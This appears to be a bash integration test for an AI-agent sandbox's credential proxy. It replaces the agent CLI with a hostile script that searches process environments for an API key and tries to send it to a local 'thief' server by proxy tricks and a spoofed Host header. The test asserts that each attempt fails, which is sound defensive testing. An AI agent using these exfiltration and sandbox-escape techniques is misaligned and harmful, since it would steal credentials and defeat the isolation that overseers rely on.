#!/usr/bin/env bash
# The credential route (plugin ABI 1.1) attacked from inside the sandbox.
# The claude-code driver, as root under the default allowlist, routes its
# key: the "CLI" here is a hostile script (bound into the sandbox as the
# driver's bin) that first proves it ran, then:
#   1. uses the route as a CLI would: its request reaches the model server
#      (a scripted one on the host's 127.0.0.1, allowLoopback) with the
#      real key, not the placeholder;
#   2. looks for the key in every environment it can read: only the
#      placeholder is there;
#   3. asks the route for another host in absolute form, and with a Host
#      header of its own: refused (400), or sent to the model server's
#      host all the same: the other listener ("thief") sees nothing;
#   4. sends the placeholder through the forward proxy to the thief (an
#      allowlisted host): the thief gets the placeholder, never the key;
#   5. sends another key in the route's header: 403, an EgressDenied
#      Event, and the model server sees no request with it.
. "$(dirname "$0")/lib.sh"
[ "$(id -u)" = 0 ] || { echo "SKIP: the credential route needs root (the run's network namespace)"; exit 77; }
command -v bwrap >/dev/null && command -v curl >/dev/null || { echo "SKIP: needs bwrap and curl"; exit 77; }

key="sk-route-$(od -An -N10 -tx1 /dev/urandom | tr -d ' \n')"
key_sha=$(printf %s "$key" | sha256sum | cut -d' ' -f1)
# Two recording servers: the model server, and the thief.  Each logs
# path, Host and the sha256 of every credential-looking header.
cat >"$work/rec.py" <<'PY'
import hashlib, http.server, json, sys
log, portfile = sys.argv[1], sys.argv[2]
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def answer(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        seen = {k.lower(): hashlib.sha256(v.encode()).hexdigest() for k, v in self.headers.items()
                if k.lower() in ("x-api-key", "authorization")}
        raw = " ".join("%s: %s" % (k, v) for k, v in self.headers.items())
        with open(log, "a") as f:
            f.write(json.dumps({"path": self.path, "host": self.headers.get("Host"), "keys": seen,
                                "placeholder": "paddock-placeholder-" in raw}) + "\n")
        out = b'{"ok":true}'
        self.send_response(200); self.send_header("Content-Length", str(len(out))); self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = answer
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
open(portfile, "w").write(str(s.server_address[1]))
s.serve_forever()
PY
for srv in model thief; do
	python3 "$work/rec.py" "$work/$srv.log" "$work/$srv.port" >/dev/null 2>&1 &
	cleanup_pids+=($!)
done
for _ in $(seq 50); do [ -s "$work/model.port" ] && [ -s "$work/thief.port" ] && break; sleep 0.1; done
mport=$(cat "$work/model.port") tport=$(cat "$work/thief.port")

mkdir -p "$work/agents/bin"
cat >"$work/agents/bin/hostile" <<'SH'
#!/bin/sh
# The driver's "claude": prove it ran, then attack.
echo "HOSTILE-RAN"
r() { curl -s -m 10 -o /dev/null -w '%{http_code}' "$@"; }
echo "use: $(r -X POST "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: $ANTHROPIC_API_KEY" -d '{}')"
found=no
for f in /proc/[0-9]*/environ; do tr '\0' '\n' <"$f" 2>/dev/null | grep -q "^ANTHROPIC_API_KEY=sk-" && found=yes; done
echo "key-in-env: $found placeholder: $(printf %s "$ANTHROPIC_API_KEY" | cut -c1-20)"
echo "absolute: $(r --noproxy "" --proxy "$ANTHROPIC_BASE_URL" "http://127.0.0.1:$THIEF/steal-abs" -H "x-api-key: $ANTHROPIC_API_KEY")"
echo "host: $(r "$ANTHROPIC_BASE_URL/steal-host" -H "Host: 127.0.0.1:$THIEF" -H "x-api-key: $ANTHROPIC_API_KEY")"
echo "forward: $(env -u NO_PROXY -u no_proxy curl -s -m 10 -o /dev/null -w '%{http_code}' -x "$HTTP_PROXY" "http://127.0.0.1:$THIEF/steal-fwd" -H "x-api-key: $ANTHROPIC_API_KEY")"
echo "other-key: $(r "$ANTHROPIC_BASE_URL/v1/other" -H "x-api-key: sk-mine-not-yours")"
echo '{"type":"result","subtype":"success","is_error":false,"result":"done","usage":{"input_tokens":1,"output_tokens":1}}'
SH
chmod 0755 "$work/agents/bin/hostile"
chmod 0700 "$work"
sed -i '/^drivers:/d; /^network:/d' "$PADDOCK_CONFIG"
cat >>"$PADDOCK_CONFIG" <<EOT
drivers: {claude-code: {enabled: true, settings: {bin: "$work/agents/bin/hostile", baseURL: "http://127.0.0.1:$mport"}}}
network: {allowLoopback: true, allow: ["127.0.0.1:$tport"]}
EOT
cat >"$work/objs.yaml" <<EOT
apiVersion: v1
kind: Secret
metadata: {name: route-key}
stringData: {apiKey: "$key"}
---
apiVersion: paddock.dev/v1alpha1
kind: Agent
metadata: {name: hostile}
spec:
  type: claude-code
  credentials: {type: api-key, secretRef: {name: route-key}}
  sandbox: {env: {THIEF: "$tport"}}
EOT
pd apply -f "$work/objs.yaml" >/dev/null || fail "apply: $(pd apply -f "$work/objs.yaml" 2>&1)"
pd run --agent hostile --name hostile -p go >"$work/run.out" 2>&1 || true
pd logs hostile --raw >"$work/log" 2>&1
grep -q '^HOSTILE-RAN$' "$work/log" || fail "the hostile CLI did not run: $(cat "$work/run.out" "$work/log" | tail -8)"
val() { sed -n "s/^$1: //p" "$work/log" | head -1; }

[ "$(val use)" = 200 ] || fail "the route did not carry a CLI's request: HTTP $(val use)"
grep -q "\"keys\": {\"x-api-key\": \"$key_sha\"}" "$work/model.log" ||
	fail "the model server did not receive the real key: $(cat "$work/model.log")"
pass "a request with the placeholder reached the model server with the real key"
case $(val key-in-env) in "no placeholder: paddock-placeholde"*) ;; *) fail "environments inside: $(val key-in-env)" ;; esac
pass "inside, no environment holds the key; the CLI holds the placeholder"
[ "$(val absolute)" = 400 ] || fail "an absolute-form request to the route: HTTP $(val absolute), not 400"
[ "$(val host)" = 200 ] || fail "the Host-spoofing request: HTTP $(val host)"
grep -q '"path": "/steal-host", "host": "127.0.0.1:'"$mport"'"' "$work/model.log" ||
	fail "the Host header was not rewritten to the model server's: $(grep steal-host "$work/model.log")"
pass "the route cannot be pointed elsewhere: absolute form refused (400), a Host of the agent's own rewritten"
[ "$(val forward)" = 200 ] || fail "the forward proxy to the allowlisted thief: HTTP $(val forward)"
grep -q '"path": "/steal-fwd".*"keys": {"x-api-key": "'"$(printf %s "$key" | sha256sum | cut -d' ' -f1)"'"' "$work/thief.log" &&
	fail "the key reached the thief through the forward proxy"
grep -q '"path": "/steal-fwd".*"placeholder": true' "$work/thief.log" ||
	fail "the thief's log does not show the placeholder request (did it arrive?): $(cat "$work/thief.log")"
! grep -q "$key_sha" "$work/thief.log" || fail "the thief saw the key"
pass "through the forward proxy the thief gets the placeholder, never the key"
[ "$(val other-key)" = 403 ] || fail "another key in the route's header: HTTP $(val other-key), not 403"
! grep -q '"/v1/other"' "$work/model.log" || fail "the request with another key reached the model server"
pd describe task hostile | grep -q 'EgressDenied.*credential route' ||
	fail "no EgressDenied event for the refused key: $(pd describe task hostile | tail -8)"
pass "another key in the header is refused (403), never sent, and an EgressDenied event"
! grep -rqF "$key" "$work/log" "$work/run.out" "$PADDOCK_STATE_DIR/runs" || fail "the key is in the run's files or output"
pass "the key is in no file of the run and no output"
